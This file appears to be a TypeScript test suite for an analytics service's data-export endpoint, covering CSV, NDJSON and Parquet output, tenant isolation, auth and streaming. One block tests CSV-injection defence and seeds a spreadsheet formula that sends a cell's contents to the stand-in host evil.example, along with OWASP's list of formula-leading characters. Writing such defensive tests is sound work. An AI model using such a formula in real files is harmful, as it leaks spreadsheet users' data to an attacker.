import { once } from 'node:events';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { type IncomingMessage, type Server, get as httpGet } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import request from 'supertest';
import type { Express } from 'express';
import { type EventRow, QUERY_SELECT_COLUMNS, routes, toClickHouseTime } from '@analytics/schema';
import { openTestStores, type ContractCheck, answerOf, contractChecked } from '@analytics/testing';
import { exportFileName } from './export.route';
import { openReadService } from './test-support/seeded-service';
import { listenOnLoopback } from './test-support/listen';

type Stores = Awaited<ReturnType<typeof openTestStores>>;
type Keys = { pk: string; sk: string; rk: string };
type Row = Record<string, string | null>;
const ORIGIN = 'https://shop.example.com';
const D0 = Date.UTC(2026, 2, 2);
const HOUR = 3_600_000;
const FROM = new Date(D0).toISOString();
const TO = new Date(D0 + 7 * 24 * HOUR).toISOString();
// A range of its own for the large dataset (cancel, streaming, starvation): far from the small range.
const BIG_D0 = Date.UTC(2026, 0, 5);
const BIG_FROM = new Date(BIG_D0).toISOString();
const BIG_TO = new Date(BIG_D0 + 24 * HOUR).toISOString();
const BIG_ROWS = 150_000;

let stores: Stores;
let app: Express;
let contract: ContractCheck;
let server: Server;
let base: string;
let a: Keys & { id: string };
let b: Keys & { id: string };

const TRICKY = { note: 'comma, "quotes", and a\nnewline', 'key,with"odd': "it's \\ back\r\nslash", n: 1.5, nested: { list: [1, 'two'] } };

beforeAll(async () => {
  const opened = await openReadService({ EXPORT_MAX_EXECUTION_S: '120' });
  stores = opened.stores;
  const ingestApp = opened.ingestApp;
  contract = contractChecked(opened.readApp);
  app = contract.app;
  const pa = await stores.keyStore.createProject({ name: 'Shop "A" / main', allowed_origins: [ORIGIN] });
  const pb = await stores.keyStore.createProject({ name: 'b', allowed_origins: [ORIGIN] });
  a = { ...pa.keys, id: pa.project.id };
  b = { ...pb.keys, id: pb.project.id };
  const at = (h: number) => new Date(D0 + h * HOUR).toISOString();
  const batch = async (sk: string, events: object[]) => {
    const res = await request(ingestApp).post('/v1/batch').set('authorization', `Bearer ${sk}`).set('x-forwarded-for', '81.2.69.160').set('user-agent', 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36').send({ events });
    expect(res.status).toBe(202);
  };
  await batch(a.sk, [
    { event: '$pageview', anonymous_id: 'a-1', session_id: 'a-1-s', timestamp: at(1), url: `${ORIGIN}/?utm_source=newsletter&utm_medium=email`, properties: TRICKY },
    { event: 'signup', event_id: 'same-ts-b', anonymous_id: 'a-1', user_id: 'a-user', timestamp: at(2), url: `${ORIGIN}/signup`, properties: { plan: 'pro, yearly' } },
    { event: 'signup', event_id: 'same-ts-a', anonymous_id: 'a-2', timestamp: at(2), referrer: 'https://www.google.com/' },
    { event: 'purchase', anonymous_id: 'a-3', user_id: 'u,"3"', timestamp: at(50), properties: { line: 'one\ntwo', empty: '' } },
  ]);
  await batch(b.sk, [{ event: 'b_only_event', anonymous_id: 'b-anon', user_id: 'b-user', timestamp: at(1), url: `${ORIGIN}/b-path?gclid=x`, properties: { secret: 'b' } }]);
  // The large range: straight into the table (the write path is not what is under test), in a few INSERTs.
  for (let i = 0; i < BIG_ROWS; i += 50_000) {
    const rows: EventRow[] = [];
    for (let j = i; j < Math.min(BIG_ROWS, i + 50_000); j++) rows.push(bigRow(a.id, j));
    await stores.events.insertRows(rows);
  }
  ({ server, base } = await listenOnLoopback(app));
}, 120_000);

afterAll(async () => {
  server?.close();
  await stores?.close();
});

afterAll(() => {
  expect(contract.violations).toEqual([]);
});

function bigRow(projectId: string, j: number): EventRow {
  return {
    project_id: projectId, timestamp: toClickHouseTime(BIG_D0 + Math.floor(j / 2)), event_id: `big-${String(j).padStart(7, '0')}`, event_name: 'bulk', anonymous_id: `v-${j % 997}`,
    user_id: null, session_id: `s-${j % 5000}`, source: 'direct', medium: 'direct', campaign: null, source_confidence: 'high', source_rule_id: 'direct', channel: 'direct',
    referrer: null, url: `${ORIGIN}/p/${j}`, path: `/p/${j}`, country: 'GB', device_type: 'desktop', browser: 'Chrome', os: 'Linux', ip_hash_hex: 'ab'.repeat(16),
    properties: JSON.stringify({ i: j, pad: 'x'.repeat(120) }),
  };
}

const exportOf = (key: string | undefined, query: Record<string, string>) => {
  const req = request(app).get('/v1/export').query(query).buffer(true).parse((res, done) => {
    const chunks: Buffer[] = [];
    res.on('data', (c: Buffer) => chunks.push(c));
    res.on('end', () => done(null, Buffer.concat(chunks)));
  });
  if (key) req.set('authorization', `Bearer ${key}`);
  return req;
};

/** /v1/query's rows for the range, oldest first (timestamp, event_id): what every export format must equal. */
async function queryRows(key: string, query: Record<string, string> = {}): Promise<Row[]> {
  const res = await request(app).get('/v1/query').set('authorization', `Bearer ${key}`).query({ from: FROM, to: TO, limit: 1000, ...query });
  expect(res.status).toBe(200);
  const rows = res.body.rows as Row[];
  return rows.sort((x, y) => (x.timestamp! < y.timestamp! ? -1 : x.timestamp! > y.timestamp! ? 1 : x.event_id! < y.event_id! ? -1 : 1));
}

/** RFC 4180 (csv-parse), an unquoted empty field being null (every string, an empty one too, is quoted). */
const parseCsv = (text: string): Array<Array<string | null>> => parse(text, { cast: (value, { quoting }) => (!quoting && value === '' ? null : value) });

/** A Parquet export's rows as chDB reads them back, `timestamp` (a timestamp there) in /v1/query's ISO 8601 form. */
const parquetRows = (file: string): Promise<Row[]> =>
  stores.events.select<Row>(`SELECT * REPLACE (concat(replaceOne(toString(timestamp), ' ', 'T'), 'Z') AS timestamp) FROM file({f:String}, 'Parquet')`, { f: file });

describe('GET /v1/export', () => {
  it('ndjson: the rows of /v1/query, oldest first (timestamp then event_id), with attachment headers', async () => {
    const res = await exportOf(a.rk, { from: FROM, to: TO });
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('application/x-ndjson');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="${exportFileName('Shop "A" / main', { from: D0, to: D0 + 7 * 24 * HOUR, format: 'ndjson' })}"`);
    expect(res.headers['content-disposition']).toBe('attachment; filename="Shop_A_main-2026-03-02T000000Z-2026-03-09T000000Z.ndjson"');
    const lines = (res.body as Buffer).toString('utf8').split('\n');
    expect(lines.pop()).toBe('');
    const rows = lines.map((l) => JSON.parse(l) as Row);
    const expected = await queryRows(a.rk);
    expect(expected).toHaveLength(4);
    expect(rows).toEqual(expected);
    // Same field order as /v1/query.
    expect(Object.keys(rows[0]!)).toEqual([...QUERY_SELECT_COLUMNS]);
    expect(rows.map((r) => r.event_id).slice(1, 3)).toEqual(['same-ts-a', 'same-ts-b']);
    expect(JSON.parse(rows[0]!.properties!)).toEqual(TRICKY);
  });

  it('csv: a header of the field names and RFC 4180 rows equal to /v1/query (quotes, commas, newlines)', async () => {
    const res = await exportOf(a.rk, { from: FROM, to: TO, format: 'csv' });
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/filename="Shop_A_main-2026-03-02T000000Z-2026-03-09T000000Z\.csv"$/);
    const text = (res.body as Buffer).toString('utf8');
    // properties is JSON text: its quotes doubled by CSV, its newline the JSON escape; user_id has a comma and quotes.
    expect(text).toContain('\\""quotes\\"", and a\\nnewline');
    expect(text).toContain('"u,""3"""');
    // A null (user_id, campaign of the first row) is an empty field, never ClickHouse's \N.
    expect(text).not.toContain('\\N');
    expect(text.split('\n')[1]).toMatch(/^"[^"]+","\$pageview","a-1",,"newsletter","email",/);
    const [header, ...records] = parseCsv(text);
    expect(header).toEqual([...QUERY_SELECT_COLUMNS]);
    const rows = records.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]])));
    expect(rows).toEqual(await queryRows(a.rk));
  });

  it('parquet: one file that chDB reads back to the rows of /v1/query', async () => {
    const res = await exportOf(a.rk, { from: FROM, to: TO, format: 'parquet' });
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('application/vnd.apache.parquet');
    expect(res.headers['content-disposition']).toMatch(/\.parquet"$/);
    const body = res.body as Buffer;
    expect(body.subarray(0, 4).toString()).toBe('PAR1');
    const dir = mkdtempSync(join(tmpdir(), 'export-spec-'));
    try {
      const file = join(dir, 'a.parquet');
      writeFileSync(file, body);
      expect(await parquetRows(file)).toEqual(await queryRows(a.rk));
      // timestamp is Parquet's timestamp (milliseconds, UTC), not a string; every other column a string.
      const types = await stores.events.select<{ name: string; type: string }>(`DESCRIBE file({f:String}, 'Parquet')`, { f: file });
      const typeOf = Object.fromEntries(types.map((t) => [t.name, t.type]));
      expect(typeOf['timestamp']).toMatch(/^(Nullable\()?DateTime64\(3, 'UTC'\)\)?$/);
      expect(Object.entries(typeOf).filter(([name]) => name !== 'timestamp').every(([, type]) => /^(Nullable\()?String\)?$/.test(type))).toBe(true);
      const [first] = await stores.events.select<{ t: string; ts: string }>(`SELECT toTypeName(timestamp) AS t, toString(timestamp) AS ts FROM file({f:String}, 'Parquet') LIMIT 1`, { f: file });
      expect(first).toEqual({ t: typeOf['timestamp'], ts: (await queryRows(a.rk))[0]!.timestamp!.replace('T', ' ').replace('Z', '') });
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('answers HEAD with the headers of the file and no body', async () => {
    const res = await request(app).head('/v1/export').set('authorization', `Bearer ${a.rk}`).query({ from: FROM, to: TO, format: 'csv' });
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/\.csv"$/);
  });

  it('applies the filters of /v1/query', async () => {
    const filters: Array<Record<string, string>> = [{ event: 'signup' }, { user_id: 'u,"3"' }, { source: 'google' }, { medium: 'email' }];
    for (const filter of filters) {
      const res = await exportOf(a.rk, { from: FROM, to: TO, ...filter });
      expect(res.status).toBe(200);
      const rows = (res.body as Buffer).toString('utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l) as Row);
      const expected = await queryRows(a.rk, filter);
      expect(expected.length).toBeGreaterThan(0);
      expect(rows).toEqual(expected);
    }
  });

  it('exports only the key\'s project (tenant isolation)', async () => {
    const res = await exportOf(b.rk, { from: FROM, to: TO });
    const rows = (res.body as Buffer).toString('utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l) as Row);
    expect(rows.map((r) => r.event_name)).toEqual(['b_only_event']);
    const big = await exportOf(b.rk, { from: BIG_FROM, to: BIG_TO, format: 'csv' });
    expect(big.status).toBe(200);
    // Nothing of A's: a header alone.
    expect(parseCsv((big.body as Buffer).toString('utf8'))).toEqual([[...QUERY_SELECT_COLUMNS]]);
    const none = await exportOf(b.rk, { from: BIG_FROM, to: BIG_TO });
    expect([none.status, (none.body as Buffer).length]).toEqual([200, 0]);
    // An empty Parquet export is still a file: its columns, no rows.
    const parquet = await exportOf(b.rk, { from: BIG_FROM, to: BIG_TO, format: 'parquet' });
    const dir = mkdtempSync(join(tmpdir(), 'export-spec-'));
    try {
      const file = join(dir, 'empty.parquet');
      writeFileSync(file, parquet.body as Buffer);
      expect(await stores.events.select(`SELECT * FROM file({f:String}, 'Parquet')`, { f: file })).toEqual([]);
      const columns = await stores.events.select<{ name: string }>(`DESCRIBE file({f:String}, 'Parquet')`, { f: file });
      expect(columns.map((c) => c.name)).toEqual([...QUERY_SELECT_COLUMNS]);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('refuses pk_ and sk_ keys with 403 insufficient_scope, and no key with 401', async () => {
    for (const key of [a.pk, a.sk]) {
      const res = await request(app).get('/v1/export').set('authorization', `Bearer ${key}`).set('origin', ORIGIN).query({ from: FROM, to: TO });
      expect(res.status).toBe(403);
      expect(res.body).toMatchObject({ error: 'insufficient_scope' });
    }
    expect((await request(app).get('/v1/export').query({ from: FROM, to: TO })).body.error).toBe('missing_bearer_token');
  });

  it.each([
    [{ to: TO }, 'from'],
    [{ from: FROM }, 'to'],
    [{ from: TO, to: FROM }, 'to'],
    [{ from: 'yesterday', to: TO }, 'from'],
    [{ from: FROM, to: TO, format: 'xlsx' }, 'format'],
    [{ from: FROM, to: TO, event: '' }, 'event'],
  ])('answers 400 invalid_params with details for %j', async (query, field) => {
    const res = await request(app).get('/v1/export').set('authorization', `Bearer ${a.rk}`).query(query);
    expect(res.status).toBe(400);
    expect(res.body.error).toBe('invalid_params');
    expect(JSON.stringify(res.body.details)).toContain(field);
  });

  it('is in the contract: 200, 400 and 403 answers were checked', () => {
    expect(contract.checked.get(answerOf(routes.export, 400))).toBeGreaterThan(0);
    expect(contract.checked.get(answerOf(routes.export, 403))).toBeGreaterThan(0);
  });
});

describe('GET /v1/export: cells a spreadsheet would run as formulas', () => {
  // OWASP's CSV injection list: a cell starting with one of these is a formula to Excel, LibreOffice or Sheets.
  const LEADS = ['=', '+', '-', '@', '\t', '\r'];
  // Values already starting with quotes before one of those get one more (the importer takes exactly one off); a
  // quote before anything else, or one of those characters further in, is left alone.
  const CASES: Array<[lead: string, csv: string]> = [...LEADS.map((c): [string, string] => [c, `'${c}`]), ["'=", "''="], ["''@", "'''@"], ["'", "'"], ['a=', 'a=']];
  const F_D0 = Date.UTC(2026, 4, 4);
  const range = { from: new Date(F_D0).toISOString(), to: new Date(F_D0 + HOUR).toISOString() };
  let f: Keys & { id: string };
  // Every string column of the export (all but timestamp), each starting with the case's characters.
  const valueOf = (column: string, lead: string, i: number) => `${lead}${column === 'event_name' ? 'HYPERLINK("https://evil.example/?leak="&A1)' : `${column}-${i}`}`;
  const STRING_COLUMNS = QUERY_SELECT_COLUMNS.filter((c) => c !== 'timestamp');

  beforeAll(async () => {
    const created = await stores.keyStore.createProject({ name: 'formulas', allowed_origins: [ORIGIN] });
    f = { ...created.keys, id: created.project.id };
    await stores.events.insertRows(
      CASES.map(([lead], i) => {
        const r = bigRow(f.id, i);
        const values = Object.fromEntries(STRING_COLUMNS.map((c) => [c, valueOf(c, lead, i)]));
        return { ...r, ...values, timestamp: toClickHouseTime(F_D0 + i * 1000) } as EventRow;
      }),
    );
  });

  const expected = (i: number, transform: (v: string) => string) => Object.fromEntries(STRING_COLUMNS.map((c) => [c, transform(valueOf(c, CASES[i]![0], i))]));

  it("csv: every string column's cell starting with = + - @ tab or CR gets a ' in front", async () => {
    const res = await exportOf(f.rk, { ...range, format: 'csv' });
    expect(res.status).toBe(200);
    const [header, ...records] = parseCsv((res.body as Buffer).toString('utf8'));
    expect(records).toHaveLength(CASES.length);
    records.forEach((record, i) => {
      const row = Object.fromEntries(header!.map((h, j) => [h, record[j]]));
      const want = expected(i, (v) => `${CASES[i]![1]}${v.slice(CASES[i]![0].length)}`);
      expect({ i, ...Object.fromEntries(STRING_COLUMNS.map((c) => [c, row[c]])) }).toEqual({ i, ...want });
    });
  });

  it('ndjson and parquet keep every value exactly as stored', async () => {
    const ndjson = await exportOf(f.rk, range);
    const rows = (ndjson.body as Buffer).toString('utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l) as Row);
    expect(rows.map((r) => Object.fromEntries(STRING_COLUMNS.map((c) => [c, r[c]])))).toEqual(CASES.map((_, i) => expected(i, (v) => v)));
    const parquet = await exportOf(f.rk, { ...range, format: 'parquet' });
    const dir = mkdtempSync(join(tmpdir(), 'export-spec-'));
    try {
      const file = join(dir, 'formulas.parquet');
      writeFileSync(file, parquet.body as Buffer);
      const back = await parquetRows(file);
      expect(back.map((r) => Object.fromEntries(STRING_COLUMNS.map((c) => [c, r[c]])))).toEqual(CASES.map((_, i) => expected(i, (v) => v)));
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

/** A raw GET of an export over a socket, not read until asked: the server's writes back up (backpressure). */
function openExport(key: string, query: Record<string, string>): Promise<IncomingMessage> {
  const qs = new URLSearchParams(query).toString();
  return new Promise((resolve, reject) => {
    const req = httpGet(`${base}/v1/export?${qs}`, { headers: { authorization: `Bearer ${key}` } }, (res) => {
      res.pause();
      resolve(res);
    });
    req.on('error', reject);
  });
}

const runningExports = () => stores.events.select<{ n: string }>("SELECT count() AS n FROM system.processes WHERE Settings['log_comment'] != '' AND query LIKE '%AS timestamp%'", {}).then((r) => Number(r[0]!.n));

describe('GET /v1/export of a large range', () => {
  it('streams: the first bytes arrive while the rest is held back by the unread socket', async () => {
    const res = await openExport(a.rk, { from: BIG_FROM, to: BIG_TO });
    expect(res.statusCode).toBe(200);
    const first = (await once(res, 'readable'), res.read()) as Buffer;
    expect(first.length).toBeGreaterThan(0);
    expect(first.toString('utf8').split('\n')[0]).toContain('"event_id":"big-0000000"');
    // The whole export is about 45 MB: it cannot all be in the server's buffers while we read nothing.
    await new Promise((r) => setTimeout(r, 500));
    let total = first.length;
    let lines = 0;
    for await (const chunk of res as AsyncIterable<Buffer>) {
      total += chunk.length;
      for (let i = chunk.indexOf(0x0a); i !== -1; i = chunk.indexOf(0x0a, i + 1)) lines++;
    }
    lines += first.toString('utf8').split('\n').length - 1;
    expect(lines).toBe(BIG_ROWS);
    expect(total).toBeGreaterThan(20 * 1024 * 1024);
  }, 120_000);

  it('another project\'s /v1/stats is answered while an export runs (held by its unread socket)', async () => {
    const res = await openExport(a.rk, { from: BIG_FROM, to: BIG_TO, format: 'csv' });
    expect(res.statusCode).toBe(200);
    const started = Date.now();
    const stats = await request(app).get('/v1/stats').set('authorization', `Bearer ${b.rk}`).query({ from: FROM, to: TO });
    expect(stats.status).toBe(200);
    expect(stats.body.rows).toEqual([{ value: 1 }]);
    expect(Date.now() - started).toBeLessThan(5_000);
    // And the project's own reads too.
    expect((await request(app).get('/v1/query').set('authorization', `Bearer ${a.rk}`).query({ from: FROM, to: TO })).status).toBe(200);
    res.destroy();
  }, 180_000);

  it('a client that goes away cancels the export: its query stops and the project\'s export turn is free again', async () => {
    const res = await openExport(a.rk, { from: BIG_FROM, to: BIG_TO, format: 'csv' });
    expect(res.statusCode).toBe(200);
    await once(res, 'readable');
    expect(res.read()).not.toBeNull();
    // Held by the unread socket, the export's query is running in the engine.
    expect(await runningExports()).toBe(1);
    res.destroy();
    // The query is gone from the engine within a few seconds (KILL QUERY by its tag, the stream cancelled).
    const deadline = Date.now() + 10_000;
    while ((await runningExports()) > 0 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 100));
    expect(await runningExports()).toBe(0);
    // One export per project: had the cancelled one kept its turn, this one would wait and be 429.
    const again = await exportOf(a.rk, { from: FROM, to: TO });
    expect(again.status).toBe(200);
  }, 180_000);

  it('a second export of the same project while one runs waits for its turn', async () => {
    const held = await openExport(a.rk, { from: BIG_FROM, to: BIG_TO });
    const t0 = Date.now();
    const second = exportOf(a.rk, { from: FROM, to: TO }).then((r) => ({ status: r.status, at: Date.now() - t0 }));
    await new Promise((r) => setTimeout(r, 300));
    held.destroy();
    const { status, at } = await second;
    expect(status).toBe(200);
    expect(at).toBeGreaterThanOrEqual(250);
  }, 180_000);
});
